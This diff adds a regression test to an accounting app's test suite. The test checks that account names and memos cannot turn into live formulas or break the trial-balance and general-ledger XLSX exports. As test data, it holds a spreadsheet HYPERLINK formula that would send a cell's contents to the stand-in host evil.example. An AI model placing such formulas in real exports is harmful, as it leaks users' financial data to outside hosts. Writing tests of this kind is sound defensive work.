@@ -73,6 +73,26 @@ def test_balance_sheet_as_xlsx(client, books, staff):
     assert rows["Total assets"] == rows["Total liabilities and equity"] == pytest.approx(3500000.00)
 
 
+def test_account_names_and_memos_cannot_become_formulas_or_break_the_xlsx(client, books, manager):
+    """The holes: an account name ran as a formula in the trial balance; a memo with \u0003 made the
+    general-ledger XLSX answer 500."""
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
+    with cooperative_context(books.pk):
+        Account.objects.filter(system_key="utilities").update(name=evil)
+        cash = account_for("cash")
+        post_simple("1000.00", debit="cash", credit="other_income", date=datetime.date(2026, 2, 7), memo="tunai\u0003")
+    client.force_login(manager)
+    trial = client.get(url(books, "reports/trial-balance/?from=2026-01&to=2026-02&format=xlsx"))
+    names = [row[1] for row in load_workbook(io.BytesIO(trial.content)).active.iter_rows() if row[1].value]
+    (cell,) = [cell for cell in names if "HYPERLINK" in str(cell.value)]
+    assert (cell.value, cell.data_type) == ("'" + evil, "s")
+    ledger = client.get(url(books, f"reports/general-ledger/{cash.pk}/?from=2026-01&to=2026-02&format=xlsx"))
+    assert ledger.status_code == 200
+    rows = load_workbook(io.BytesIO(ledger.content)).active.iter_rows(values_only=True)
+    (memo,) = [value for row in rows for value in row if "tunai" in str(value)]
+    assert memo.endswith(" tunai")  # the control character is gone, the memo is not
+
+
 def test_general_ledger_page(client, books, staff):
     with cooperative_context(books.pk):
         cash = account_for("cash")
